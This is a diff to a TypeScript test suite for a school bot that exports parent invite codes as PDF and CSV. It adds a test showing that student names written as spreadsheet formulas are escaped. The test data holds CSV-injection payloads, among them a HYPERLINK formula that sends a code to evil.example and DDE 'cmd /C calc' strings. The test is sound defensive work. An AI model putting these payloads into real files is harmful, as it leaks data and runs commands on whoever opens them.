@@ -7,7 +7,8 @@ import { execFileSync } from "node:child_process";
 import fs from "node:fs";
 import os from "node:os";
 import path from "node:path";
-import { InviteCode, School, Account } from "../../src/db/models";
+import { InviteCode, School, Account, Student } from "../../src/db/models";
+import { parseCsv } from "../../src/services/exchange/csv";
 import { hashCode, normalizeCode } from "../../src/domain/codes";
 import { issueAdminCode } from "../../src/services/codes";
 import { clearDb, useTestDb } from "../support/db";
@@ -55,7 +56,7 @@ describe("/codes in the bot", () => {
     expect(pdf.bytes.subarray(0, 5).toString()).toBe("%PDF-");
     const text = pdfText(pdf.bytes);
     const csvText = csv.bytes.toString("utf8").replace(/^\uFEFF/, "");
-    const rows = csvText.trim().split("\r\n").map((line) => line.split(","));
+    const rows = csvText.trim().split("\r\n").map((line) => line.split(";"));
     expect(rows[0]).toEqual(["класс", "ученик", "код", "действует до"]);
     expect(rows.slice(1).map((r) => r[1])).toEqual(["Иванова Мария Петровна", "Петров Пётр Иванович"]);
     for (const [className, student, code, expires] of rows.slice(1)) {
@@ -85,7 +86,7 @@ describe("/codes in the bot", () => {
   test("issuing again revokes the earlier unused slips and says so; a used code stays, the old slip is refused", async () => {
     const admin = harness.user({ id: ADMIN_ID });
     const codesOf = (messages: SentMessage[]) =>
-      documents(messages)[1].bytes.toString("utf8").replace(/^\uFEFF/, "").trim().split("\r\n").slice(1).map((line) => line.split(",")[2]);
+      documents(messages)[1].bytes.toString("utf8").replace(/^\uFEFF/, "").trim().split("\r\n").slice(1).map((line) => line.split(";")[2]);
     const first = await admin.send("/codes 7Б");
     expect(texts(first)).not.toContain("Отозван");
     const [mashaOld, petyaOld] = codesOf(first);
@@ -104,6 +105,25 @@ describe("/codes in the bot", () => {
     expect(texts(await parent.send(petyaOld))).toContain("Этот код отозван школой");
     // /codes alone tells the admin beforehand.
     expect(texts(await admin.send("/codes"))).toContain("старые листки перестают действовать");
+  });
+
+  test("a name written as a formula is plain text in the CSV: the code beside it cannot be sent away", async () => {
+    // A parent filled in the journal's form with a formula: opened in Excel, it would send the next cell (the code) to a stranger.
+    const formula = '=HYPERLINK("http://evil.example/?c="&C3;"Откройте")';
+    await Student.updateOne({ _id: school.petya }, { $set: { fullName: formula } });
+    await Student.create({ schoolId: school.school._id, externalId: "s-plus", fullName: "+cmd|' /C calc'!A0", classId: school.classId });
+    await Student.create({ schoolId: school.school._id, externalId: "s-at", fullName: "@SUM(1+1)*cmd|' /C calc'!A0", classId: school.classId });
+    await Student.create({ schoolId: school.school._id, externalId: "s-minus", fullName: "-2+3", classId: school.classId });
+    await Student.create({ schoolId: school.school._id, externalId: "s-sum", fullName: "=1+1", classId: school.classId });
+    const admin = harness.user({ id: ADMIN_ID });
+    const [, csv] = documents(await admin.send("/codes 7Б"));
+    const raw = csv.bytes.toString("utf8");
+    const rows = parseCsv(raw, ";");
+    const names = rows.slice(1).map((r) => r[1]);
+    expect(names).toEqual(expect.arrayContaining([`'${formula}`, "'+cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0", "'-2+3", "'=1+1", "Иванова Мария Петровна"]));
+    // No cell of the file starts a formula; the codes themselves are intact.
+    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+    for (const row of rows.slice(1)) expect(row[2]).toMatch(/^[A-Z2-9]{4}-[A-Z2-9]{4}-[A-Z2-9]{2}$/);
   });
 
   test("an unknown class lists the classes; /codes alone explains itself", async () => {
